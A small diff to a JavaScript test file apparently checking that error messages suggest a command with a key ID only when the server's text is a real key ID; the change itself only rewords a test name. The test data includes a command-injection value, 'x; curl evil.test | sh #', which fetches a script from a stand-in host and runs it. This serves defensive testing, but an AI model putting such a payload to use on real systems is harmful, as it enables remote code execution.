@@ -97,7 +97,7 @@ describe("every failure", () => {
       expect(errorOf(failure)).toMatchObject({ status: 503, requestId: "req-1" })
   })
 
-  it("suggests a command with a key ID only where the server's text is one", () => {
+  it("suggests a command with a key ID only if the server's text is one", () => {
     const keyId = "x; curl evil.test | sh #"
     const failures = [
       new Errors.OutcomeUnknown({ label: "ci", found: [keyId], cause: undefined }),
